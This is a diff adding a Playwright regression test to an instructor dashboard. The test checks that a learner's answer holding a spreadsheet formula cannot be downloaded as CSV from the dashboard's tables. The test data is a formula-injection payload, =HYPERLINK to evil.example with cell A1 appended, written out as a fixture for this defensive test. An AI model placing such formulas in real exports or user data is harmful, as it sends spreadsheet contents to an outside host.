@@ -66,3 +66,36 @@ def test_the_activity_chart_labels_each_minute_once_where_the_tries_were(page, t
         page.wait_for_function("() => document.querySelectorAll('[data-testid=\"stVegaLiteChart\"] svg text').length > 5")
         texts = chart.locator("svg text").evaluate_all("nodes => nodes.map(n => n.textContent)")
         assert [x for x in texts if re.fullmatch(r"\d\d:\d\d", x)] == [f"10:{m}" for m in range(39, 52)]
+
+
+def test_no_table_of_the_dashboard_downloads_a_learners_formula(page, tmp_path):
+    """A learner's answer is shown as typed in the learner detail; st.dataframe's own "Download as CSV" wrote it
+    as typed, and ``=HYPERLINK(…)`` ran in the instructor's spreadsheet (break-it pass brk19web). The page's
+    export prefixes it with '; the tables' button is hidden, the rest of their toolbar stays."""
+    import re
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for grade")'
+    store = ProgressStore(tmp_path)
+    store.record("mallory", "pk_pass3", formula, 0, 1)
+    store.close()
+    page.set_default_timeout(90_000)
+    with fresh_server(env={"TOOLCALL_DATA_DIR": str(tmp_path), "TOOLCALL_INSTRUCTOR_PASSPHRASE": PASSPHRASE}) as url:
+        page.goto(f"{url}/dashboard?learner=teacher-1")
+        page.wait_for_selector(".st-key-dashboard_passphrase input[type=password]")
+        settle(page)
+        page.locator(".st-key-dashboard_passphrase input").fill(PASSPHRASE)
+        page.get_by_role("button", name="Sign in").click()
+        page.wait_for_selector('[data-testid="stMetric"]')
+        settle(page)
+        page.locator(".st-key-dashboard_learner [data-testid=stSelectbox] input").click()
+        page.keyboard.type("mallory")
+        page.keyboard.press("Enter")
+        page.wait_for_function("document.querySelectorAll('[data-testid=stDataFrame]').length == 4")
+        settle(page)  # the exercises, the learners, and mallory's two, where her answer is as typed:
+        page.locator("[role=gridcell]", has_text=re.compile(r"^=HYPERLINK\(")).first.wait_for(state="attached")
+        tables = page.locator('[data-testid="stDataFrame"]')
+        for i in range(tables.count()):
+            tables.nth(i).hover()
+            page.locator("button[aria-label='Search']:visible").nth(i).wait_for()  # each toolbar is drawn
+        assert page.locator("button[aria-label='Search']:visible").count() == 4
+        assert page.locator("button[aria-label='Download as CSV']:visible").count() == 0
